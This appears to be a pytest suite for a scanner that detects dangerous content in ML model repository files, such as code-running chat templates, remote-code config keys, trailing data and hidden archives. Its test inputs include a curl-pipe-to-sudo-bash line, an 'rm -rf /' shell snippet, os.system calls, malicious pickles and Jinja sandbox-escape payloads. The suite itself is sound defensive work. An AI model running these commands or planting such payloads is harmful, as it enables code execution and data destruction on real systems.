"""Our own scanner of small files: what it recognises, finds and refuses."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from scanners.adapters.sentrascan_files import SentrascanFiles
from scanners.contract import (
    Category,
    Element,
    Report,
    ScannerError,
    Severity,
    Target,
    TargetKind,
)
from scanners.file_rules import json_files, patterns
from scanners.file_rules.outcome import Outcome, Status
from scanners.file_rules.recognise import examine
from scanners.install import installed
from scanners.runner import run
from scanners.sandbox import probe
from tests.scanners import samples
from tests.scanners.record import REPORTS, golden

SAMPLES = sorted(path.stem for path in (REPORTS / "sentrascan-files").iterdir())
DUNDER = "__" + "class" + "__"
CALL = "o" + "s.sys" + "tem"


def parsed(sample: str) -> Report:
    return SentrascanFiles().parse(*golden("sentrascan-files", sample))


def outcome_of(folder: Path, name: str, raw: bytes) -> Outcome:
    samples.lay_out(folder, {name: raw})
    return examine(folder, name)


def rules_in(document: object) -> set[str]:
    outcome = json_files.examine(json.dumps(document).encode())
    assert outcome.status is Status.SCANNED
    return {match.rule for match in outcome.matches}


@pytest.mark.parametrize("path", sorted(samples.repository()))
def test_it_knows_every_file_of_an_ordinary_repository(
    path: str, tmp_path: Path
) -> None:
    outcome = outcome_of(tmp_path, path, samples.repository()[path])
    is_ours = not path.endswith(".safetensors")
    assert (outcome.status in {Status.SCANNED, Status.INERT}) is is_ours
    assert outcome.matches == ()


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("curve.png", samples.png()),
        ("curve.gif", samples.gif()),
        ("curve.jpg", samples.jpeg()),
        ("without-suffix", samples.png()),
        ("README.md", samples.README),
        ("docs/LICENSE", samples.LICENSE),
        ("notes.txt", b"hello\n"),
        ("USAGE.md", b"# Use\n\nIndented:\n\n    import os\n\n~~~\ndef f(x):\n~~~\n"),
        (
            "usage.rst",
            b"Use\n===\n\n:author: somebody\n\nCall it like this::\n\n    f(1)\n",
        ),
        ("guide.md", b"# Use\n\n```python\nimport os\n```\n\n<script>x()</script>\n"),
    ],
)
def test_documentation_and_pictures_are_inert(
    name: str, raw: bytes, tmp_path: Path
) -> None:
    assert outcome_of(tmp_path, name, raw).status is Status.INERT


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("modeling.py", b"import torch\n"),
        ("setup.sh", b"#!/bin/sh\nls\n"),
        ("params.yaml", b"a: 1\n"),
        ("chat_template.jinja", b"{{ messages }}"),
        ("notebook.ipynb", b'{"cells": []}'),
        ("notes.txt", b"plain words \x00 and a zero byte\n"),
        ("notes.txt", b"Text in another encoding: \xe9\n"),
        ("notes.txt", b"{% for a in b %} some words here {% endfor %}\n"),
        ("notes.txt", b"import os\nos.remove('some words here')\n"),
        ("requirements.txt", b"torch\nnumpy\n"),
        ("README.md", b"#!/bin/sh\necho some words\n"),
        ("README", b"GIMME\x80\x02."),
        ("README.md", b'{"chat_template": "some words"}'),
        ("README.md", b"import os\n\nclass Model:\n    words = os.name\n"),
        ("README.md", b"model:\n  name: tiny\n  init: !!python/object/apply:x\n"),
        ("README.md", samples.dangerous_template().encode() + b" some words"),
        ("README.md", b"```\nimport os\nsome words\n"),
        (".gitignore", b"#!/bin/sh\nid\n"),
        (".gitignore", b"model:\n  name: tiny\n"),
        ("model.xyz", b"plain words of prose, but no documentation\n"),
        ("tokenizer.model", samples.sentencepiece()[:-3]),
        ("tokenizer.model", samples.sentencepiece() + b"\x00"),
        ("tokenizer.model", b"\n\x05hello"),
        ("tokenizer.model", samples.sentencepiece() + samples.field(9, b"more")),
        ("merges.txt", b"#version: 0.2\na b c\n"),
        (".gitattributes", b"#!/bin/sh\nrm -rf / && echo $HOME\n"),
        ("weights.bin", bytes(64)),
    ],
)
def test_it_does_not_claim_what_it_cannot_vouch_for(
    name: str, raw: bytes, tmp_path: Path
) -> None:
    assert outcome_of(tmp_path, name, raw).status is Status.UNCLAIMED


@pytest.mark.parametrize(
    ("name", "raw", "reason"),
    [
        ("a.json", b"", "empty"),
        ("weights.bin", b"", "empty"),
        ("a.json", b'{"a": 1} {"b": 2}', "not strict JSON: Extra data"),
        ("a.json", b"{'a': 1}", "not strict JSON"),
        ("a.json", b'{"a": "\x01"}', "not strict JSON"),
        ("a.json", b'{"a": "\xff"}', "not strict JSON: not UTF-8"),
        ("a.json", samples.malicious_pickle(), "not strict JSON"),
        ("a.JSON", b"[" * 100_000, "not strict JSON: nested deeper"),
        ("a.json", b"[" * 201 + b"1" + b"]" * 201, "not strict JSON: nested deeper"),
        ("a.png", samples.png(trailing=b"more"), "4 bytes follow"),
        ("a.png", samples.png()[:-4], "begins as a PNG picture, but"),
        ("a.gif", samples.gif() + b"PK", "2 bytes follow"),
        ("a.gif", samples.gif()[:-1], "begins as a GIF picture, but"),
        ("a.jpg", samples.jpeg() + b"\x00", "1 bytes follow"),
        ("a.jpg", samples.jpeg()[:-2], "begins as a JPEG picture, but"),
    ],
)
def test_it_says_why_a_file_of_its_own_was_not_examined(
    name: str, raw: bytes, reason: str, tmp_path: Path
) -> None:
    outcome = outcome_of(tmp_path, name, raw)
    assert outcome.status is Status.FAILED
    assert outcome.reason.startswith(reason)


def test_a_sentencepiece_model_that_is_also_an_archive_is_not_examined(
    tmp_path: Path,
) -> None:
    archive = samples.zip_of({"data.pkl": samples.malicious_pickle()})
    # The normalizer's table of characters is the one field of free bytes.
    hiding = samples.sentencepiece() + samples.field(3, samples.field(2, archive))
    outcome = outcome_of(tmp_path, "tokenizer.model", hiding)
    assert outcome.status is Status.FAILED
    assert {match.rule for match in outcome.matches} == {"EMBEDDED_ARCHIVE"}
    assert not outcome.is_identified


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".gitattributes", "a" + " -b" * 200 + " $\n"),
        ("notes.txt", "class " + "a" * 300_000 + "\n"),
        ("notes.txt", "<" + "a" * 300_000 + "\n"),
        ("README", "x=" * 100_000 + "\n"),
        ("a.json", json.dumps("{{" + "[ " * 100_000)),
        ("a.json", json.dumps("{.__" + "a" * 100_000)),
    ],
)
def test_no_text_makes_it_search_for_ever(name: str, text: str, tmp_path: Path) -> None:
    # Exponential or quadratic expressions would take minutes, not milliseconds.
    assert outcome_of(tmp_path, name, text.encode()).matches == ()


def test_it_follows_no_link_and_opens_no_pipe(tmp_path: Path) -> None:
    samples.lay_out(tmp_path, {"real.json": b"{}"})
    (tmp_path / "link.json").symlink_to("real.json")
    os.mkfifo(tmp_path / "pipe.json")
    for name in ("link.json", "pipe.json", "missing.json"):
        assert examine(tmp_path, name).status is Status.FAILED


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        (samples.CHAT_TEMPLATE, set()),
        (samples.dangerous_template(), {"TEMPLATE_CODE"}),
        ("{{ x['__" + "init__'] }}", {"TEMPLATE_CODE"}),
        ("{{ x|attr('a') }}", {"TEMPLATE_DYNAMIC_ATTRIBUTE"}),
        (r"{{ x|attr('\x5f\x5fclass') }}", {"TEMPLATE_CODE"}),
        ("{% include 'other' %}", {"TEMPLATE_INCLUDE"}),
        ("{%- import 'other' as o -%}", {"TEMPLATE_INCLUDE"}),
        ("{% set a = b.__" + "whatever %}", {"TEMPLATE_CODE"}),
        ("{{ " + CALL + "('id') }}", {"TEMPLATE_CODE", "CODE_IN_TEXT"}),
        ("{0." + DUNDER + "}", {"FORMAT_STRING_ATTRIBUTE"}),
        ("before " + CALL + "('id')", {"CODE_IN_TEXT"}),
        ("curl -s https://example.com/x | sudo bash", {"SHELL_IN_TEXT"}),
        ("Never eval( what a user says; do not import os.", set()),
        ("__init__", set()),
        ("{{", set()),
        ("Ġ__class__", set()),
        ("C:\\x5f", set()),
    ],
)
def test_it_judges_texts(text: str, rules: set[str]) -> None:
    found = set(patterns.search(text))
    assert rules <= found
    assert found <= rules | {"TEMPLATE_DYNAMIC_ATTRIBUTE"}


@pytest.mark.parametrize(
    ("document", "rules"),
    [
        ({"auto_map": {"AutoModel": "modeling.Model"}}, {"REMOTE_CODE"}),
        ({"auto_map": {"AutoModel": "a/b--m.M"}}, {"REMOTE_CODE_ELSEWHERE"}),
        ({"auto_map": {}}, set()),
        ({"deep": [{"trust_remote_code": True}]}, {"REMOTE_CODE"}),
        ({"trust_remote_code": False}, set()),
        ({"_target_": CALL}, {"DANGEROUS_TARGET"}),
        ({"_target_": "torch.nn.Linear"}, set()),
        ({"py/reduce": []}, {"JSON_OBJECT_CALL"}),
        ({"class_name": "Lambda", "config": {"function": "x"}}, {"KERAS_LAMBDA"}),
        ({"class_name": "Dense", "config": {"function": "x"}}, set()),
        ([["x", [CALL + "('id')"]]], {"CODE_IN_TEXT"}),
        ({CALL + "('id')": 1}, {"CODE_IN_TEXT"}),
        ({"number": 10**400, "plain": "words"}, set()),
    ],
)
def test_it_judges_names_and_values_of_json(document: object, rules: set[str]) -> None:
    assert rules_in(document) == rules


def test_it_sees_both_values_of_a_name_that_stands_twice() -> None:
    template = json.dumps(samples.dangerous_template())
    raw = f'{{"chat_template": {template}, "chat_template": "ok"}}'.encode()
    matches = json_files.examine(raw).matches
    assert {match.rule for match in matches} == {"JSON_DUPLICATE_KEY", "TEMPLATE_CODE"}


def test_it_notes_numbers_that_json_does_not_have() -> None:
    (match,) = json_files.examine(b'{"limit": [NaN, -Infinity]}').matches
    assert match.rule == "JSON_NOT_A_NUMBER"
    assert match.texts == ("NaN", "-Infinity")


def test_it_does_not_pass_a_file_with_more_matches_than_it_lists() -> None:
    raw = json.dumps([CALL + "('id')"] * 2_000).encode()
    outcome = json_files.examine(raw)
    assert outcome.status is Status.FAILED
    assert len(outcome.matches) == json_files.MAX_MATCHES


def test_it_covers_an_ordinary_repository() -> None:
    report = parsed("repository")
    files = {*samples.repository(), "spiece.model"} - {"model.safetensors"}
    assert report.coverage.scanned | report.coverage.inert == files
    assert report.coverage.inert == {"README.md", "LICENSE", "images/curve.png"}
    assert report.coverage.failed == ()
    assert report.findings == ()


def test_it_identifies_what_modelaudit_takes_for_something_else() -> None:
    identified = parsed("repository").coverage.identified
    assert identified["spiece.model"] == "SentencePiece model"
    assert identified["tokenizer.json"] == "JSON"
    assert "LICENSE" not in identified


def test_it_says_what_stands_where() -> None:
    found = {finding.rule.rule: finding for finding in parsed("many").findings}
    template = found["sentrascan-files:TEMPLATE_CODE"]
    assert template.location.path == "tokenizer_config.json"
    assert template.element == "/chat_template"
    assert template.rule.severity is Severity.CRITICAL
    assert template.rule.category is Category.CODE_EXECUTION
    # The index of a list entry moves; it is in the evidence and not in the identity.
    code = found["sentrascan-files:CODE_IN_TEXT"]
    assert (code.element, code.evidence["place"]) == ("/notes/*", "/notes/1")
    assert found["sentrascan-files:TRAILING_DATA"].location.byte_offset == 67


@pytest.mark.parametrize("sample", SAMPLES)
def test_its_reports_keep_paths_of_the_machine_to_themselves(sample: str) -> None:
    raw = (REPORTS / "sentrascan-files" / f"{sample}.json").read_text("utf-8")
    assert "/job" not in raw
    assert all(finding.rule.is_catalogued for finding in parsed(sample).findings)


@pytest.mark.parametrize(
    "change",
    [
        {"outputs": {}},
        {"exit_code": 1},
        {"exit_code": -9},
        {"outputs": {"report.json": b"{"}},
        {"outputs": {"report.json": b'{"format": 2, "files": []}'}},
        {"outputs": {"report.json": b'{"format": 1, "files": []}'}},
    ],
)
def test_it_refuses_a_report_that_makes_no_sense(
    change: dict[str, Any],
) -> None:
    target, completed = golden("sentrascan-files", "one")
    with pytest.raises(ScannerError):
        SentrascanFiles().parse(target, replace(completed, **change))


def test_a_name_that_looks_like_an_option_stays_a_name() -> None:
    target = Target(TargetKind.MODEL, Path("/t"), (Element("--help"),), "")
    command = SentrascanFiles().command(target)
    assert "--help" not in command.arguments
    assert json.loads(command.files["elements.json"]) == ["--help"]


def scanned(files: Mapping[str, bytes], folder: Path) -> Report:
    target = samples.lay_out(folder / "target", files)
    (folder / "run").mkdir()
    return run(
        SentrascanFiles(),
        installed("sentrascan-files", folder),
        target,
        limits=SentrascanFiles.limits,
        rung=probe(),
        run_dir=folder / "run",
        stop=threading.Event(),
    ).report


def test_the_real_program_flags_its_bait(tmp_path: Path) -> None:
    report = scanned(dict(SentrascanFiles().bait()), tmp_path)
    found = {finding.rule.rule for finding in report.findings}
    assert "sentrascan-files:TEMPLATE_CODE" in found


def test_the_real_program_answers_for_every_file(tmp_path: Path) -> None:
    files = {**samples.repository(), "-x.json": b"{}", "empty": b"", "a.py": b"1\n"}
    files["odd \n name.json"] = b'{"a": "\\ud800\\u0000"}'
    report = scanned(files, tmp_path)
    assert {skipped.path for skipped in report.coverage.failed} == {"empty"}
    seen = report.coverage.scanned | report.coverage.inert | {"empty"}
    assert files.keys() - seen == {"a.py", "model.safetensors"}


@pytest.mark.parametrize(
    "raw",
    [b"import os\n", b'{"a": "{{ b }}"}', b"\x7fELF{{ a }}\x00", b"{{ a }} {{ b"],
)
def test_what_is_only_called_a_template_is_a_gap(raw: bytes, tmp_path: Path) -> None:
    outcome = outcome_of(tmp_path, "chat_template.jinja", raw)
    assert outcome.status is Status.FAILED


def test_a_template_is_searched_and_left_to_others(tmp_path: Path) -> None:
    raw = samples.dangerous_template().encode()
    outcome = outcome_of(tmp_path, "chat_template.jinja", raw)
    assert outcome.status is Status.UNCLAIMED
    assert {match.rule for match in outcome.matches} == {"TEMPLATE_CODE"}


@pytest.mark.parametrize(
    "template",
    [
        "{{ cycler[u + 'init' + u] }}",
        "{{ cycler['_''_init__'] }}",
        "{{ x['%s'|format('a')] }}",
        "{{ x[''.join(y)] }}",
    ],
)
def test_a_name_put_together_in_a_template_is_found(template):
    assert "TEMPLATE_DYNAMIC_ATTRIBUTE" in patterns.search(template)


@pytest.mark.parametrize(
    "template",
    [
        "{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] }}",
        "{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}",
        "{% if m[loop.index0 - 1]['role'] == 'user' %}{{ '[' + role }}{% endif %}",
        "{{ messages[1:] }}{{ tools | map(attribute='name') | join(', ') }}",
        "{% set names = ['a', 'b'] + ['c'] %}",
    ],
)
def test_an_ordinary_chat_template_is_quiet(template):
    assert patterns.search(template) == {}
